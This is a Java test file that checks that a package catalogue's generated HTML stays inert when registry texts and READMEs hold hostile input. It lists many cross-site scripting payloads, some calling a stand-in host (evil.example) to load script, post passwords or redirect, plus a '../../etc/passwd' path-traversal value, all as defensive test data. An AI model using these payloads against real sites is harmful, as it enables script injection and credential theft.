package dev.chandlery.catalogue;

import static org.assertj.core.api.Assertions.assertThat;

import dev.chandlery.testing.Seeded;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.SortedMap;
import java.util.TreeMap;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Texts of strangers stay texts, wherever they are shown. */
class HostileInputTest {
    private static final List<String> ATTACKS = List.of(
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "' autofocus onfocus='alert(1)",
            "</title></style></script><svg/onload=alert(1)>",
            "{{{page.root}}}{{commit}}",
            "javascript:alert(1)",
            "\u0000\u0007\u001b[31m\u0085\ud800 \ufdd0 \uffff",
            "`</code><script>alert(1)</script>`",
            "</code></pre><iframe src=//evil.example>",
            "]]><!--",
            "&lt;script&gt;&#60;b&#62;",
            "\u202egnp.exe");

    @Test
    void attacksInEveryTextFieldComeOutInert() {
        for (String attack : ATTACKS) {
            SortedMap<String, String> pages =
                    SitePages.of(HostileRegistry.of(attack), HostileRegistry.findings(attack));
            for (String path : SitePages.html(pages)) {
                assertInert(path + " with " + attack, SitePages.get(pages, path));
            }
            assertThat(SitePages.get(pages, "assets/search-data.js")).doesNotContain("</script");
        }
    }

    @Test
    void pagesWithAttacksAreValid() {
        SortedMap<String, String> all = new TreeMap<>();
        for (int i = 0; i < ATTACKS.size(); i++) {
            SortedMap<String, String> pages =
                    SitePages.of(HostileRegistry.of(ATTACKS.get(i)), HostileRegistry.findings(ATTACKS.get(i)));
            for (String path : SitePages.html(pages)) {
                all.put(i + "/" + path, pages.get(path));
            }
        }
        assertThat(PageValidity.check(all)).isEmpty();
    }

    @Test
    void theInertCheckSeesWhatIsNot() {
        List<String> live = new ArrayList<>();
        for (String html : List.of("<p onclick=x>", "<a href='javascript:x'>", "<script>x</script>", "<img src=x>")) {
            live.addAll(problems(Jsoup.parse(html)));
        }
        assertThat(live).hasSize(4);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil.example/x.js></sCrIpT>",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](&#x6A;avascript:alert(1))",
                "[x](java\tscript:alert(1))",
                "[x](data:text/html;base64,PHNjcmlwdD4=)",
                "[x](vbscript:x)",
                "[x](//evil.example)",
                "[x](https://user@evil.example\\@acme.example)",
                "![x](javascript:alert(1))",
                "![x](https://evil.example/\"onerror=\"alert(1))",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>",
                "<math><mtext><script>alert(1)</script></mtext></math>",
                "<a href='https://acme.example' onclick='alert(1)' style='position:fixed'>x</a>",
                "<details ontoggle=alert(1) open>x</details>",
                "<h3 id='main'>x</h3><h3 id='q'>y</h3>",
                "<form action=//evil.example><input name=password></form>",
                "<style>body{display:none}</style><link rel=stylesheet href=//evil.example>",
                "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "```<script>\n</code></pre><script>alert(1)</script>\n```",
                "| <script>x</script> |\n|---|\n| [a](javascript:x) |",
                "<!-- --><script>alert(1)</script><!-- -->",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "</div></section></main><script>alert(1)</script>",
                "<table><tr><td></table></div></div>",
            })
    void readmesComeOutInert(String readme) {
        CatalogueInput input = HostileRegistry.withReadme("# t\n\n" + readme + "\n\n## After\n\nend of it\n");
        SortedMap<String, String> pages = SitePages.of(input);
        for (String path : List.of("packages/bad/index.html", "packages/bad/1.0.0/index.html")) {
            assertInert(path, SitePages.get(pages, path));
            Document page = Jsoup.parse(SitePages.get(pages, path));
            assertThat(page.select("main > footer, main > .side"))
                    .as("the frame is whole")
                    .hasSize(1);
            assertThat(page.select("#readme .prose").text()).contains("end of it");
            assertThat(page.select("[id=main], [id=q]")).hasSize(2);
        }
    }

    @Test
    void anyReadmeKeepsTheFrameWhole() {
        Markdown markdown = new Markdown();
        Seeded.check(300, random -> {
            StringBuilder text = new StringBuilder();
            for (int i = random.below(30); i > 0; i--) {
                text.append(random.pick(
                        "<div>",
                        "</div>",
                        "<b>",
                        "</p>",
                        "<table>",
                        "<tr>",
                        "<td>",
                        "</table>",
                        "<details>",
                        "<a href=#x>",
                        "[a](",
                        "](javascript:x)",
                        "`",
                        "```\n",
                        "\n\n",
                        "# ",
                        "| a | b |\n|--|--|\n",
                        "<!--",
                        "-->",
                        "<script>",
                        "<h4 id=readme-x>",
                        "&#0;",
                        "\u0000",
                        "* ",
                        "> ",
                        "1. ",
                        "text ",
                        "<svg>",
                        "<![CDATA[",
                        "{{",
                        "\""));
            }
            String html = "<main><section>" + markdown.page(text.toString(), "readme-", List.of(), path -> "")
                    + "<i id=end></i></section></main>";
            Document page = Jsoup.parse(html);
            assertThat(page.selectFirst("main > section > i#end"))
                    .as(text.toString())
                    .isNotNull();
            assertThat(problems(page)).as(text.toString()).isEmpty();
        });
    }

    @Test
    void aDeepOrLongReadmeIsShownInTime() {
        Markdown markdown = new Markdown();
        for (String piece : List.of("> ", "[", "* ", "<b>", "![", "**a ", "`")) {
            assertThat(markdown.page(piece.repeat(20_000), "readme-", List.of(), path -> ""))
                    .isNotNull();
            assertThat(markdown.description(piece.repeat(20_000))).isNotNull();
        }
        String nested = "**a ".repeat(20_000) + " b** ".repeat(20_000);
        assertThat(markdown.page(nested, "readme-", List.of(), path -> "")).startsWith("<pre>**a ");
    }

    @Test
    void textsOfTheRegistryDoNotReachTheNamesOfFiles() {
        for (String path :
                SitePages.files(HostileRegistry.of("../../etc/passwd")).keySet()) {
            assertThat(path).doesNotContain("passwd");
        }
    }

    private static void assertInert(String what, String html) {
        assertThat(problems(Jsoup.parse(html))).as(what).isEmpty();
    }

    private static List<String> problems(Document page) {
        List<String> problems = new ArrayList<>();
        Map<String, String> scripts = Map.of("theme.js", "", "page.js", "", "search.js", "");
        for (Element element :
                page.select("script, img, iframe, svg, math, style, object, embed, base, meta[http-equiv]")) {
            String source = element.attr("src").replaceFirst(".*/assets/|^assets/", "");
            if (!(element.tagName().equals("script")
                    && scripts.containsKey(source)
                    && element.data().isEmpty())) {
                problems.add(element.outerHtml());
            }
        }
        for (Element element : page.getAllElements()) {
            for (Attribute attribute : element.attributes()) {
                String key = attribute.getKey();
                String value = attribute.getValue();
                boolean address = key.equals("href") || key.equals("src") || key.equals("action");
                if (key.startsWith("on") || key.equals("style") || (address && !isHarmless(value))) {
                    problems.add(key + "=" + value);
                }
            }
        }
        return problems;
    }

    private static boolean isHarmless(String address) {
        return address.matches("https?://[A-Za-z0-9.-]+(:[0-9]+)?(/[!-~]*)?")
                || address.matches("mailto:[A-Za-z0-9.+_-]+@[A-Za-z0-9.-]+")
                || address.matches("#[A-Za-z0-9._-]+")
                || address.matches("/?(\\.\\./)*[A-Za-z0-9._/-]+(#[A-Za-z0-9._-]+)?")
                || address.equals("/");
    }
}
